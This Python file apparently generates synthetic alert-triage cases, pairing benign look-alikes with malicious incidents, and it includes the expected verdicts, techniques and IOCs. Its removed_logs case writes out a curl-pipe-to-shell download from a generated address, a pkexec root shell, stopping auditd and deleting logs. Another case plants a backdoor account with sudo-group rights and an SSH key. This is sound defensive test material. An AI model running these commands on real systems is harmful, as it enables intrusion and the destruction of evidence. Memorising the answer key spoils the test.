# ruff: noqa: E501
"""Machines that alarm by themselves, and hostile twins: a database that is away, a clock that jumped, logs that are rotated."""

from datetime import datetime, timedelta

from casebook import Case, Log, iso
from linux import execve, user_record
from upkeep import change, old_syslog

MAILBOXES = ("aksel", "birgit", "carl", "ditte", "erik", "fie", "gorm", "helle", "ib", "jytte", "kasper", "lis", "mads", "nana")  # fmt: skip


def dovecot(case: Case, log: Log, when: datetime, user: str, address: str, *steps: str, is_right: bool) -> None:
    """A log-in to the mail server, or a refused one."""
    session = f"session=<{case.hex(16)}>"
    said = f"imap-login: Login: user=<{user}>, method=PLAIN, rip={address}, lip=10.9.0.4, mpid={case.dice.randrange(3000, 9000)}, TLS, {session}"
    if not is_right:
        said = f"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<{user}>, method=PLAIN, rip={address}, lip=10.9.0.4, TLS, {session}"
    log.add(when, old_syslog(when, "mail2", "dovecot", said), *steps)


def mail_server(case: Case) -> tuple[Log, str]:
    """Three days on which everybody reads mail, in the office and elsewhere."""
    log, office = case.log("mail.log"), "33.18.77.4"
    for day in range(3):
        for user in MAILBOXES:
            home = f"33.{40 + len(user)}.{sum(map(ord, user)) % 250}.9"
            for _ in range(5):
                dovecot(case, log, case.after(days=day, hours=7, minutes=case.dice.randrange(500)), f"{user}@lind.example", case.dice.choice((office, office, office, home)), is_right=True)  # fmt: skip
    return log, office


def database_away() -> Case:
    """The mail server's database is away for ten minutes: every program of the office is refused, and then no longer."""
    case = Case("b56_dovecot_database_away", "2025-05-12 00:00:00")
    log, office = mail_server(case)
    start = case.start + timedelta(days=2, hours=16, minutes=30)
    for turn in range(60):
        when = start + timedelta(seconds=9 * turn)
        user = f"{MAILBOXES[turn % len(MAILBOXES)]}@lind.example"
        then = when + timedelta(seconds=1)
        log.add(when, old_syslog(when, "mail2", "dovecot", f"auth: Error: sql({user},{office},<{case.hex(16)}>): Password query failed: Can't connect to local server through socket '/run/mysqld/mysqld.sock' (2)"), "away")  # fmt: skip
        dovecot(case, log, then, user, office, "refused", is_right=False)
    for seconds, message in ((-4, "Stopping mariadb.service - MariaDB 10.11.6 database server..."), (544, "Started mariadb.service - MariaDB 10.11.6 database server.")):  # fmt: skip
        when = start + timedelta(seconds=seconds)
        log.add(when, old_syslog(when, "mail2", "systemd[1]", message), "away")
    for turn, user in enumerate(MAILBOXES):
        dovecot(case, log, start + timedelta(seconds=560 + 7 * turn), f"{user}@lind.example", office, "again", is_right=True)  # fmt: skip
    case.alert = {"title": "Credential stuffing: 14 mailboxes refused from one address", "severity": "high", "time": iso(start + timedelta(minutes=5)), "src_ip": office, "service": "imap", "failures": 34}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The database behind the mail server was stopped for nine minutes: the server could ask nobody and refused all programs of the office, whose mailboxes all got in from there before and get in again after.",
        steps={"refused": "the refusals", "away": "the server's own error", "again": "everybody gets in afterwards"},
        not_iocs=(office,),
    )


def stuffed_mailboxes() -> Case:
    """As many refusals without any error of the server, from an address that nobody used; two mailboxes open."""
    case = Case("m56_dovecot_stuffed_mailboxes", "2025-05-12 00:00:00")
    log, office = mail_server(case)
    intruder = case.public()
    start = case.start + timedelta(days=2, hours=16, minutes=30)
    for turn in range(60):
        user = f"{MAILBOXES[turn % len(MAILBOXES)]}@lind.example"
        dovecot(case, log, start + timedelta(seconds=9 * turn), user, intruder, "refused", is_right=False)
    for turn, user in enumerate(("gorm", "lis")):
        dovecot(case, log, start + timedelta(seconds=300 + 200 * turn), f"{user}@lind.example", intruder, "in", is_right=True)  # fmt: skip
    case.alert = {"title": "Credential stuffing: 14 mailboxes refused from one address", "severity": "high", "time": iso(start + timedelta(minutes=5)), "src_ip": intruder, "service": "imap", "failures": 34}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "An address that nobody used tries passwords on all mailboxes and gets into two.",
        steps={"refused": "tries on all mailboxes", "in": "two open"},
        techniques="T1110",
        more_techniques="T1110.001 T1110.003 T1110.004 T1078 T1114 T1114.002 T1078.003",
        iocs=(intruder,),
        more_iocs=("gorm@lind.example", "lis@lind.example"),
        not_iocs=(office,),
    )


def kdc(log: Log, when: datetime, address: str, principal: str, what: str, *steps: str) -> None:
    """What MIT's key server says of a request for a first ticket."""
    etypes = "AS_REQ (4 etypes {aes256-cts-hmac-sha1-96(18), aes128-cts-hmac-sha1-96(17), aes256-cts-hmac-sha384-192(20), aes128-cts-hmac-sha256-128(19)})"
    realm = "VANG.EXAMPLE"
    if what == "ISSUE":
        said = f"{etypes} {address}: ISSUE: authtime {int(when.timestamp())}, etypes {{rep=aes256-cts-hmac-sha1-96(18), tkt=aes256-cts-hmac-sha1-96(18), ses=aes256-cts-hmac-sha1-96(18)}}, {principal}@{realm} for krbtgt/{realm}@{realm}"
    else:
        said = f"{etypes} {address}: PREAUTH_FAILED: {principal}@{realm} for krbtgt/{realm}@{realm}, {what}"
    log.add(when, f"{when.strftime('%b %d %H:%M:%S')} kdc1 krb5kdc[611](info): {said}", *steps)


def clock_that_jumped() -> Case:
    """The key server's clock is wrong after a restart: everybody is refused until it is set."""
    case = Case("b57_krb5kdc_clock_jumped", "2025-11-03 00:00:00")
    log, system = case.log("krb5kdc.log"), case.log("syslog")
    people = [f"u{number:02}" for number in range(30)]
    for day in range(2):
        for number, user in enumerate(people):
            for _ in range(4):
                kdc(log, case.after(days=day, hours=6, minutes=case.dice.randrange(500)), f"10.15.2.{20 + number}", user, "ISSUE")  # fmt: skip
    for hour in range(40):
        when = case.after(hours=hour, minutes=3)
        system.add(when, old_syslog(when, "kdc1", f"CRON[{800 + hour}]", "(root) CMD (run-parts /etc/cron.hourly)"))
    start = case.start + timedelta(days=2, hours=7)
    for turn in range(110):
        number = case.dice.randrange(30)
        kdc(log, start + timedelta(seconds=6 * turn), f"10.15.2.{20 + number}", people[number], "Clock skew too great", "refused")  # fmt: skip
    for seconds, program, message in (
        (-50, "kernel", "Linux version 6.1.0-26-amd64 (debian-kernel@lists.debian.org)"), (-40, "systemd[1]", "Started krb5-kdc.service - Kerberos 5 Key Distribution Center."),
        (664, "chronyd[702]", "Selected source 10.15.0.1"), (664, "chronyd[702]", "System clock wrong by 611.482913 seconds"), (665, "chronyd[702]", "System clock was stepped by 611.482913 seconds"),
    ):  # fmt: skip
        when = start + timedelta(seconds=seconds)
        system.add(when, old_syslog(when, "kdc1", program, message), "clock")
    for number, user in enumerate(people):
        kdc(log, start + timedelta(seconds=690 + 5 * number), f"10.15.2.{20 + number}", user, "ISSUE", "again")
    case.alert = {"name": "Kerberos pre-authentication failed for 30 accounts (password spraying)", "severity": "high", "time": iso(start + timedelta(minutes=6)), "host": "kdc1", "count": 60}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "After a restart the key server's clock was ten minutes wrong: each person is refused at the own desk for that reason and gets a ticket there once the clock was set.",
        steps={"refused": "refused because of the clock", "clock": "the clock is set", "again": "everybody gets in"},
        not_iocs=("10.15.2.20", "u00"),
    )


def web_host(case: Case) -> Log:
    """A web host under audit: timers, and logrotate that compresses and removes old logs at midnight."""
    log = case.log("audit.log")
    for _ in range(150):
        when, serial = case.sometime(days=4), case.dice.randrange(100000, 400000)
        if case.dice.random() < 0.5:
            log.add(when, user_record(when, serial, case.dice.choice(("CRED_ACQ", "USER_START", "USER_END")), op="PAM:session_open", acct="root", exe="/usr/sbin/cron", hostname="?", addr="?", terminal="cron", res="success"))  # fmt: skip
        else:
            exe, *arguments = case.dice.choice((("/usr/bin/df", "df", "-P"), ("/usr/bin/php8.2", "php", "artisan", "queue:work"), ("/usr/bin/find", "find", "/var/lib/php/sessions", "-mmin", "+30")))  # fmt: skip
            log.add(when, execve(when, serial, 33 if "php" in exe else 0, exe, *arguments))
    return log


def removed(when: datetime, serial: int, exe: str, path: str, *, uid: int = 0, auid: int = 4294967295) -> str:
    """The audit records of a file that is removed."""
    stamp = f"msg=audit({when.timestamp():.3f}:{serial})"
    return "\n".join((
        f'type=SYSCALL {stamp}: arch=c000003e syscall=87 success=yes exit=0 a0=55d0 a1=0 a2=0 a3=7f items=2 ppid=900 pid={1000 + serial % 5000} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm="{exe.rsplit("/", 1)[-1]}" exe="{exe}" key="logdelete"',
        f'type=CWD {stamp}: cwd="/"',
        f'type=PATH {stamp}: item=1 name="{path}" inode={60000 + serial % 900} dev=fd:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=DELETE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
    ))  # fmt: skip


LOGS = ("/var/log/nginx/access.log.14.gz", "/var/log/nginx/error.log.14.gz", "/var/log/auth.log.4.gz", "/var/log/syslog.7.gz")  # fmt: skip


def rotated_logs() -> Case:
    """logrotate removes what is older than it may be, in each night at the same minute."""
    case = Case("b58_auditd_logrotate_removes_logs", "2025-02-10 00:00:00")
    log = web_host(case)
    for night in range(4):
        start = case.start + timedelta(days=night, seconds=12 + case.dice.randrange(20))
        step = "alerted" if night == 3 else "before"
        log.add(start, execve(start, 500000 + 50 * night, 0, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"), step)  # fmt: skip
        for turn, path in enumerate(LOGS):
            when = start + timedelta(seconds=1 + turn)
            log.add(when, removed(when, 500001 + 50 * night + turn, "/usr/sbin/logrotate", path), step)
    case.alert = {"rule": "Log files deleted", "severity": "high", "@timestamp": iso(case.start + timedelta(days=3, seconds=40)), "host": "web-9", "process": "logrotate", "file": "/var/log/auth.log.4.gz"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "logrotate removes logs that are older than its settings keep, a minute after midnight as in each night before.",
        steps={"alerted": "this night's removal", "before": "the same in the nights before"},
        not_iocs=("logrotate", "/usr/sbin/logrotate"),
    )


def removed_logs() -> Case:
    """By day somebody who came in through the web application becomes root, removes the current logs and stops the auditing."""
    case = Case("m58_auditd_current_logs_removed", "2025-02-10 00:00:00")
    log = web_host(case)
    for night in range(3):
        start = case.start + timedelta(days=night, seconds=12 + case.dice.randrange(20))
        log.add(start, execve(start, 500000 + 50 * night, 0, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf"))  # fmt: skip
        for turn, path in enumerate(LOGS):
            when = start + timedelta(seconds=1 + turn)
            log.add(when, removed(when, 500001 + 50 * night + turn, "/usr/sbin/logrotate", path))
    start = case.start + timedelta(days=2, hours=14)
    server = case.public()
    for position, (step, uid, exe, arguments) in enumerate((
        ("in", 33, "/usr/bin/dash", ("sh", "-c", f"curl -s http://{server}/l.sh | sh")), ("in", 33, "/usr/bin/curl", ("curl", "-s", f"http://{server}/l.sh")),
        ("root", 33, "/usr/bin/pkexec", ("pkexec", "/bin/sh")), ("root", 0, "/usr/bin/dash", ("/bin/sh",)),
        ("gone", 0, "/usr/bin/systemctl", ("systemctl", "stop", "auditd")), ("gone", 0, "/usr/bin/rm", ("rm", "-f", "/var/log/auth.log", "/var/log/nginx/access.log")),
    )):  # fmt: skip
        when = start + timedelta(seconds=8 * position)
        log.add(when, execve(when, 700000 + position, uid, exe, *arguments), step)
    for turn, path in enumerate(("/var/log/auth.log", "/var/log/nginx/access.log")):
        when = start + timedelta(seconds=41 + turn)
        log.add(when, removed(when, 700020 + turn, "/usr/bin/rm", path), "gone")
    case.alert = {"rule": "Log files deleted", "severity": "high", "@timestamp": iso(start + timedelta(seconds=41)), "host": "web-9", "process": "rm", "file": "/var/log/auth.log"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The web server's user pipes a script from a bare address into a shell, becomes root, stops auditing and removes the current logs.",
        steps={"in": "script piped into a shell", "root": "root", "gone": "logs removed"},
        techniques="T1070.002",
        more_techniques="T1059.004 T1105 T1548 T1548.004 T1562.001 T1562.012 T1562 T1070 T1070.004 T1190 T1071.001 T1505.003 T1068 T1489",
        iocs=(server,),
        more_iocs=(f"http://{server}/l.sh",),
    )


def account_beside_an_update() -> Case:
    """While packages are updated somebody from elsewhere makes a system account by hand and gives it everything."""
    case = Case("m59_dnf_account_beside_an_update", "2025-06-10 00:00:00")
    secure, dnf = case.log("secure"), case.log("dnf.log")
    intruder = case.public()

    def line(when: datetime, program: str, message: str, *steps: str) -> None:
        secure.add(when, old_syslog(when, "db1", program, message), *steps)

    def came(when: datetime, user: str, address: str, *steps: str) -> None:
        line(when, f"sshd[{case.dice.randrange(2000, 9000)}]", f"Accepted publickey for {user} from {address} port 50112 ssh2: ED25519 SHA256:p{user}yW0aR", *steps)  # fmt: skip

    def as_root(when: datetime, user: str, command: str, *steps: str) -> None:
        line(when, "sudo[3300]", f"  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}", *steps)

    for day in range(4):
        for user, address in (("marta", "10.61.2.17"), ("oskar", "10.61.2.18")):
            for _ in range(12):
                when = case.after(days=day, hours=7, minutes=case.dice.randrange(540))
                came(when, user, address)
                as_root(when + timedelta(minutes=1), user, case.dice.choice(("/bin/systemctl status chronyd", "/bin/dnf check-update", "/bin/journalctl -n 50")))  # fmt: skip
    night = case.start + timedelta(days=3, hours=2)
    came(night, "oskar", intruder, "in")
    as_root(night + timedelta(seconds=40), "oskar", "/bin/dnf -y install tor", "root")
    for seconds, message in ((41, "DDEBUG Command: dnf -y install tor"), (70, "INFO Installed: tor-0.4.8.12-1.el9.x86_64")):  # fmt: skip
        when = night + timedelta(seconds=seconds)
        dnf.add(when, f"{when.strftime('%Y-%m-%dT%H:%M:%S')}+0000 {message}", "root")
    when = night + timedelta(seconds=90)
    line(when, "useradd[3317]", "new user: name=toranon, UID=988, GID=988, home=/var/lib/tor, shell=/bin/bash, from=/dev/pts/0", "account")  # fmt: skip
    line(when + timedelta(seconds=9), "usermod[3318]", "add 'toranon' to group 'wheel'", "account")
    line(when + timedelta(seconds=9), "usermod[3318]", "add 'toranon' to shadow group 'wheel'", "account")
    as_root(when + timedelta(seconds=40), "oskar", "/bin/tee /var/lib/tor/.ssh/authorized_keys", "account")
    came(when + timedelta(minutes=6), "toranon", intruder, "back")
    case.alert = {"name": "New local account with a login shell", "severity": "high", "time": iso(when), "host": "db1", "account": "toranon", "process": "useradd"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "oskar's key comes in at night from an address that nobody used; while tor is installed an account appears that is given the administrators' group and a key, and the same address comes back as it.",
        steps={"in": "from elsewhere", "account": "account, group and key", "back": "the account is used"},
        optional={"root": "the package"},
        techniques="T1136.001 T1098.004",
        more_techniques="T1136 T1098 T1098.007 T1078 T1078.003 T1021.004 T1548.003 T1090.003 T1543",
        iocs=(intruder,),
        more_iocs=("toranon", "oskar"),
        not_iocs=("marta", "10.61.2.17"),
    )


def stopped_for_backup() -> Case:
    """The hypervisor shuts machines down at night, one after another, because its backup does so every night."""
    case = Case("b60_proxmox_backup_stops_machines", "2025-08-04 00:00:00")
    log = case.log("syslog")
    for hour in range(96):
        when = case.after(hours=hour, minutes=17)
        log.add(when, old_syslog(when, "pve1", f"CRON[{4000 + hour}]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))  # fmt: skip
        then = when + timedelta(minutes=20)
        log.add(then, old_syslog(then, "pve1", f"pvedaemon[{1200 + hour}]", "<root@pam> successful auth for user 'tor@pve'"))  # fmt: skip
    for night in range(4):
        start = case.start + timedelta(days=night, hours=1, seconds=3)
        step = "alerted" if night == 3 else "before"
        task = f"UPID:pve1:0008A{night}1F:0{case.hex(7).upper()}:{int(start.timestamp()):08X}:vzdump::root@pam:"
        told = [(0, f"pvescheduler[{8000 + night}]", f"<root@pam> starting task {task}"), (1, f"pvescheduler[{8001 + night}]", "INFO: starting new backup job: vzdump --all 1 --mode stop --storage pbs --quiet 1")]  # fmt: skip
        for turn, machine in enumerate((101, 102, 107)):
            told += [(10 + 900 * turn, f"pvescheduler[{8001 + night}]", f"INFO: Starting Backup of VM {machine} (qemu)"), (12 + 900 * turn, f"pvescheduler[{8001 + night}]", f"INFO: stopping virtual guest {machine}"), (820 + 900 * turn, f"pvescheduler[{8001 + night}]", f"INFO: Finished Backup of VM {machine} (00:13:28)")]  # fmt: skip
        told += [(2720, f"pvescheduler[{8001 + night}]", "INFO: Backup job finished successfully"), (2721, f"pvescheduler[{8000 + night}]", f"<root@pam> end task {task} OK")]  # fmt: skip
        for seconds, program, message in told:
            when = start + timedelta(seconds=seconds)
            log.add(when, old_syslog(when, "pve1", program, message), step)
    case.alert = {"title": "Several virtual machines were shut down within an hour at night", "severity": "critical", "time": iso(case.start + timedelta(days=3, hours=1, minutes=16)), "host": "pve1", "user": "root@pam"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The hypervisor's scheduled backup stops each machine for its copy, at one at night as in each night before.",
        steps={"alerted": "this night's backup", "before": "the same in the nights before"},
        not_iocs=("root@pam", "pve1"),
    )


def protection_lifted_for_a_release() -> Case:
    """An owner lifts a branch's protection for the release that others approved, and puts it back."""
    case = Case("b61_github_protection_lifted_for_release", "2025-10-13 00:00:00")
    log = case.log("github-audit.jsonl")
    people = {"lena-k": "33.9.14.7", "ole-m": "33.9.14.7", "siri-b": "33.9.14.7", "tarjei": "33.9.14.7"}

    def did(when: datetime, actor: str, action: str, *steps: str, **more: str) -> None:
        log.add(when, {"@timestamp": int(when.timestamp() * 1000), "_document_id": case.hex(20), "action": action, "actor": actor, "actor_ip": people[actor], "actor_location": {"country_code": "NO"}, "created_at": int(when.timestamp() * 1000), "org": "rambok", "repo": "rambok/api", "operation_type": "modify", "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", **more}, *steps)  # fmt: skip

    for _ in range(220):
        actor = case.dice.choice(tuple(people))
        did(case.after(days=case.dice.randrange(4), hours=7, minutes=case.dice.randrange(560)), actor, case.dice.choice(("pull_request.create", "pull_request.merge", "git.push", "git.clone", "workflows.created_workflow_run")))  # fmt: skip
    start = case.start + timedelta(days=3, hours=15, minutes=4)
    did(start, "lena-k", "protected_branch.destroy", "lifted", branch="release/4.2")
    did(start + timedelta(minutes=3), "lena-k", "git.push", "~pushed", branch="release/4.2")
    did(start + timedelta(minutes=7), "lena-k", "protected_branch.create", "back", branch="release/4.2")
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=1), change("CHG0001207", short_description="Rewrite history of release/4.2 in rambok/api without the large files; lena-k lifts the protection for it", requested_by="ole-m", assigned_to="lena-k", approved_by="tarjei", sys_created_on="2025-10-14 09:20:00", start_date="2025-10-16 14:00:00", end_date="2025-10-16 17:00:00", cmdb_ci="rambok/api"), "change")  # fmt: skip
    changes.add(case.after(days=0), change("CHG0001201", short_description="New runner", requested_by="siri-b", assigned_to="siri-b", approved_by="tarjei", sys_created_on="2025-10-13 08:20:00", start_date="2025-10-15 14:00:00", end_date="2025-10-15 17:00:00", cmdb_ci="runner-3"))  # fmt: skip
    case.alert = {"title": "Branch protection removed", "severity": "high", "time": iso(start), "actor": "lena-k", "repo": "rambok/api", "branch": "release/4.2"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "lena-k, from the office's address, lifts the protection of one branch for seven minutes within the window of a change that ole-m asked for and tarjei approved, and puts it back.",
        steps={"lifted": "protection lifted", "back": "and put back", "change": "the approved change"},
        not_iocs=("lena-k", "33.9.14.7"),
    )


CASES = (
    database_away, stuffed_mailboxes, clock_that_jumped, rotated_logs, removed_logs, account_beside_an_update,
    stopped_for_backup, protection_lifted_for_a_release,
)  # fmt: skip
